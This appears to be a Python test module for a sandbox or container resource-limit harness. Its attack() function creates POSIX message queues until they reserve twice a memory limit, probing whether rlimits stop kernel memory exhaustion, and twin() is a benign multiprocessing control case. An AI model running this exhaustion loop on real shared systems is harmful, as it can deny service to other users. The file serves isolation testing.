"""Make POSIX message queues.

Technique: mq_open reserves kernel memory for all messages that a queue may ever hold, and before Linux 5.14 bounded it per user
    of the machine, over all namespaces (RLIMIT_MSGQUEUE).
Success: the queues may hold more than the memory limit.
Stopped by: rlimits
"""
import struct

LIMIT = parameters.get("memory_bytes_max", 128 << 20)
MESSAGES, BYTES = 10, 8192


def attack():
    # struct mq_attr: flags, messages, bytes of each, messages there; four words are reserved.
    attributes = ctypes.create_string_buffer(struct.pack("llll32x", 0, MESSAGES, BYTES, 0))
    queues = 0
    while queues * MESSAGES * BYTES < 2 * LIMIT:
        if queues and queues % 200 == 0:
            # Queues do not go with their descriptors.
            os.closerange(3, 1024)
        syscall("mq_open", f"q{queues}".encode(), os.O_RDWR | os.O_CREAT, 0o600, attributes)
        queues += 1
    return f"{queues} queues for {queues * MESSAGES * BYTES >> 20} MB"


def twin():
    """A queue between processes, as multiprocessing makes it."""
    import multiprocessing

    context = multiprocessing.get_context("fork")
    queue = context.SimpleQueue()
    child = context.Process(target=lambda: queue.put("x" * 10_000))
    child.start()
    assert queue.get() == "x" * 10_000
    child.join()
